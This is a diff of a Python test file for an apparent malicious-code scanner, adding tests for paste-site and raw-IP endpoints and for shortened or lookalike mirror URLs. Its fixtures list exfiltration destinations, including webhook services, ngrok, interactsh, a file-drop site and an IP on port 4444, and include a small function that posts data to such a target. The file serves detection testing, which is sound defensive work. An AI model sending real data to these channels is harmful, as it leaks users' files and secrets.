@@ -49,10 +49,7 @@ def test_library_requests_are_one_info_capability_per_file() -> None:
         ("https://api.telegram.org/bot6000000:AAAA/sendMessage", "Telegram bot API"),
         ("https://hooks.slack.com/services/T000/B000/XXXX", "Slack webhook"),
         ("https://webhook.site/0000-1111", "webhook.site"),
-        ("https://pastebin.com/raw/abcd", "paste site"),
-        ("http://45.61.136.22:8080/upload", "raw IP"),
         ("https://abcd.ngrok-free.app/c", "ngrok"),
-        ("45.61.136.22:4444", "raw IP address and port"),
         ("x1y2z3.oast.fun", "interactsh"),
     ],
 )
@@ -60,6 +57,36 @@ def test_exfiltration_endpoints_are_threats(literal: str, reason: str) -> None:
     findings = scan_code(f"TARGET = {literal!r}\n")
     assert hits(findings, "py-exfil-endpoint") == [(1, RUNTIME)]
     assert reason in findings[0].message
+
+
+@pytest.mark.parametrize(
+    ("literal", "reason"),
+    [
+        ("https://pastebin.com/raw/abcd", "paste site"),
+        ("http://45.61.136.22:8080/upload", "raw IP"),
+        ("45.61.136.22:4444", "raw IP address and port"),
+        ("https://gofile.io/d/abc", "file-drop service"),
+    ],
+)
+def test_raw_ips_and_paste_sites_are_threats_when_code_runs_by_itself_or_sends(
+    literal: str, reason: str
+) -> None:
+    named = scan_code(f"TARGET = {literal!r}\n")
+    assert hits(named, "py-suspicious-url") == [(1, RUNTIME)]
+    assert threats(named) == []
+    on_import = scan_code(f"TARGET = {literal!r}\n", IMPORT)
+    assert hits(on_import, "py-exfil-endpoint") == [(1, IMPORT)]
+    assert reason in on_import[0].message
+    sent = scan_code(
+        f"""
+        import requests
+        TARGET = {literal!r}
+
+        def upload(data):
+            requests.post("http://" + TARGET if "//" not in TARGET else TARGET, data=data)
+        """
+    )
+    assert hits(sent, "py-exfil-endpoint") == [(5, RUNTIME)]
 
 
 @pytest.mark.parametrize(
@@ -218,3 +245,13 @@ def test_socket_send_of_file_contents() -> None:
     )
     assert hits(findings, "py-exfil-data") == [(3, IMPORT)]
     assert hits(findings, "py-credential-autorun") == [(3, IMPORT)]
+
+
+def test_weak_urls_in_library_code_are_one_info_finding() -> None:
+    findings = scan_code(
+        'MIRRORS = ["https://bit.ly/a1", "https://dl.pypi.xyz/b", "https://t.ly/c"]\n'
+    )
+    assert hits(findings, "py-suspicious-url") == [(1, RUNTIME)]
+    assert findings[0].severity is Severity.INFO
+    imported = scan_code('MIRROR = "https://bit.ly/a1"\n', IMPORT)
+    assert imported[0].severity is Severity.LOW
